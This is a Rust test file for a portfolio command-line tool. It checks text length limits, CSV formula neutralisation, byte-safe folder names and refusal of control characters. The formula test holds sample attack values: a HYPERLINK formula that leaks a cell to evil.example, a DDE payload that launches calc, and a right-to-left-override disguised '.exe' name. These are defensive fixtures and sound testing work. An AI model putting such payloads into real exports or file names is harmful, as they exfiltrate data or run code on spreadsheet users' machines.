//! Text that hurts its reader (issue 16, items 9 and 11-13): unbounded lengths, spreadsheet
//! formulas in an export, file names cut by characters instead of bytes, control characters in
//! names. Every input is generated here.

use std::path::Path;
use std::time::Duration;

use crate::bombs::bounded;
use crate::common::{noise_png, run, s};

fn add_course(data: &Path, title: &str, extra: &[&str]) -> crate::common::Run {
    let mut args = vec!["education", "add", "--title", title, "--provider", "IIMC", "--date", "2025-03-01", "--hours", "3", "--category", "course"];
    args.extend_from_slice(extra);
    run(data, &args)
}

// ------------------------------------------------------------------ 9. long text

#[test]
fn text_fields_have_limits_with_clear_messages_everywhere() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let long = "x".repeat(301);
    let err = add_course(&data, &long, &[]).refused();
    assert!(err.contains("the title is 301 characters long; the limit is 300 characters"), "{err}");
    let err = add_course(&data, "Records", &["--learned", &"y".repeat(5001)]).refused();
    assert!(err.contains("what was learned is 5001 characters long; the limit is 5000"), "{err}");
    let id = add_course(&data, "Records", &[]).ok().id().to_string();
    let err = run(&data, &["education", "edit", &id, "--provider", &long]).refused();
    assert!(err.contains("the provider is 301 characters long"), "{err}");
    let err = run(&data, &["profile", "set", "--name", &long]).refused();
    assert!(err.contains("the name is 301 characters long"), "{err}");

    // A 1 MB cell in a CSV: the row is named with the limit, nothing is imported.
    let csv = dir.path().join("big.csv");
    let cell = "z".repeat(1 << 20);
    std::fs::write(&csv, format!("record,category,title,provider,start,hours\neducation,course,{cell},IIMC,2025-01-01,2\n")).unwrap();
    let r = run(&data, &["import", "csv", s(&csv)]);
    let err = r.stdout + &r.stderr;
    assert!(err.contains("2: invalid: the title is 1048576 characters long; the limit is 300"), "{err}");
    assert_eq!(run(&data, &["list", "education", "--json"]).ok().json().as_array().unwrap().len(), 1);
}

/// Seconds the packet takes for a portfolio whose one course has a title of `words` words and
/// a 50,000-character word as what was learned, as a backup from before the limits (or another
/// program) could hold it; the fastest of two runs.
fn packet_seconds(dir: &Path, words: usize) -> f64 {
    let data = dir.join(format!("data-{words}"));
    let png = noise_png(&dir.join("c.png"), 16, 4);
    add_course(&data, "Short", &["--evidence", s(&png)]).ok();
    let title: String = (0..words).map(|i| format!("word{i:05} ")).collect();
    rusqlite::Connection::open(data.join("clerkfolio.sqlite3"))
        .unwrap()
        .execute("UPDATE education SET title = ?1, learned = ?2", rusqlite::params![title, "y".repeat(50_000)])
        .unwrap();
    let out = dir.join("p.pdf");
    (0..2)
        .map(|_| {
            let r = bounded(&data, &["packet", "--out", s(&out), "--today", "2026-01-01", "--json"], Duration::from_secs(19), None);
            assert!(r.code == Some(0), "{} {}", r.stdout, r.stderr);
            r.took.as_secs_f64()
        })
        .fold(f64::MAX, f64::min)
}

/// A regression guard more than a reproduction: measured before the limits, the layout was
/// already about linear (debug build: 12,500 / 25,000 / 50,000 words in 1.9 / 4.5 / 8.5 s); the
/// defence against unbounded text is the limits above. Four times the text may take at most
/// eight times as long (quadratic would be sixteen).
#[test]
fn long_text_already_stored_lays_out_in_linear_time() {
    let dir = tempfile::tempdir().unwrap();
    let (small, large) = (packet_seconds(dir.path(), 4_000), packet_seconds(dir.path(), 16_000));
    assert!(large < 8.0 * small, "4× the text took {:.1}× as long ({small:.2} s, {large:.2} s)", large / small);
}

// ------------------------------------------------------------------ 11. CSV formulas

#[test]
fn formulas_are_neutralised_on_export_and_restored_on_import() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    add_course(&data, title, &["--learned=-2+3 budgets", "--points", "1", "--reason", "@SUM(A1:A9)", "--certificate", "+1 555"]).ok();
    run(&data, &["experience", "add", "--title", "Deputy clerk", "--organisation", "=cmd|' /C calc'!A0", "--start", "2020-01-01", "--category", "service"]).ok();
    let csv = dir.path().join("out.csv");
    run(&data, &["export", "csv", s(&csv)]).ok();
    let text = std::fs::read_to_string(&csv).unwrap();
    for cell in ["'=HYPERLINK(", "'-2+3 budgets", "'@SUM(A1:A9)", "'+1 555"] {
        assert!(text.contains(cell), "{cell} should be exported inert: {text}");
    }
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell} in {line}");
        }
    }
    let fresh = dir.path().join("fresh");
    run(&fresh, &["import", "csv", s(&csv)]).ok();
    let before = run(&data, &["list", "education", "--json"]).ok().json();
    let after = run(&fresh, &["list", "education", "--json"]).ok().json();
    for key in ["title", "learned", "certificate"] {
        assert_eq!(after[0][key], before[0][key], "{key} round-trips");
    }
    assert_eq!(after[0]["title"], title);
}

// ------------------------------------------------------------------ 12. upload folder names

#[test]
fn upload_folder_names_are_cut_by_bytes_and_the_folder_is_written_whole() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let png = noise_png(&dir.path().join("c.png"), 16, 5);
    let title = "記録管理研修".repeat(25); // 150 characters, 450 bytes
    add_course(&data, &title, &["--evidence", s(&png)]).ok();
    let (out, folder) = (dir.path().join("p.pdf"), dir.path().join("upload"));
    let report = run(&data, &["packet", "--out", s(&out), "--folder", s(&folder), "--today", "2026-01-01", "--json"]).ok().json();
    let names: Vec<String> = std::fs::read_dir(&folder).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(names.len(), 2, "{names:?}");
    assert!(names.iter().all(|n| n.len() <= 255), "{names:?}");
    assert_eq!(report["folder_files"].as_array().unwrap().len(), 2);

    // A folder holding someone's files is refused, untouched; an earlier upload folder is
    // replaced whole (its extra file gone); nothing of a staging folder is left.
    let documents = dir.path().join("documents");
    std::fs::create_dir(&documents).unwrap();
    std::fs::write(documents.join("taxes.xlsx"), b"mine").unwrap();
    let err = run(&data, &["packet", "--out", s(&out), "--folder", s(&documents), "--today", "2026-01-01"]).refused();
    assert!(err.contains("already holds other files"), "{err}");
    assert_eq!(std::fs::read_dir(&documents).unwrap().count(), 1);
    std::fs::write(folder.join("E-07 old exhibit.pdf"), b"old").unwrap();
    run(&data, &["packet", "--out", s(&out), "--folder", s(&folder), "--today", "2026-01-01"]).ok();
    assert_eq!(std::fs::read_dir(&folder).unwrap().count(), 2);
    let stray: Vec<String> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).filter(|n| n.starts_with('.')).collect();
    assert!(stray.is_empty(), "{stray:?}");
}

// ------------------------------------------------------------------ 13. control characters

#[test]
fn control_and_direction_characters_are_refused_at_the_edge() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    for (title, what) in [("Records\nlaw", "a line break"), ("invoice\u{202E}fdp.exe", "U+202E"), ("bell\u{7}", "U+0007")] {
        let err = add_course(&data, title, &[]).refused();
        assert!(err.contains("the title contains ") && err.contains(what), "{err}");
    }
    let err = run(&data, &["profile", "set", "--name", "Ann\u{202E}eoD"]).refused();
    assert!(err.contains("the name contains a right-to-left control character (U+202E)"), "{err}");
    let err = run(&data, &["membership", "add", "--type", "full", "--start", "2020-01-01", "--organisation", "IIMC\nEvil"]).refused();
    assert!(err.contains("the organisation contains a line break"), "{err}");
    // A file's own name is shown cleaned, not refused.
    let disguised = dir.path().join("invoice\u{202E}fdp.exe.png");
    noise_png(&disguised, 8, 6);
    let id = run(&data, &["evidence", "add", s(&disguised)]).ok().id().to_string();
    let listed = run(&data, &["list", "evidence", "--json"]).ok().json();
    let row = listed.as_array().unwrap().iter().find(|e| e["id"].as_i64().unwrap().to_string() == id).unwrap().clone();
    assert_eq!(row["original_name"], "invoice_fdp.exe.png", "{row}");
    // Paragraphs stay paragraphs.
    add_course(&data, "Records law", &["--learned", "Retention.\nDisposal."]).ok();

    let csv = dir.path().join("nul.csv");
    std::fs::write(&csv, b"record,category,title,provider,start,hours\neducation,course,Rec\0ords,IIMC,2025-01-01,2\n").unwrap();
    let r = run(&data, &["import", "csv", s(&csv)]);
    let err = r.stdout + &r.stderr;
    assert!(err.contains("2: invalid: the title contains a NUL character"), "{err}");
    assert_eq!(run(&data, &["list", "education", "--json"]).ok().json().as_array().unwrap().len(), 1);
}
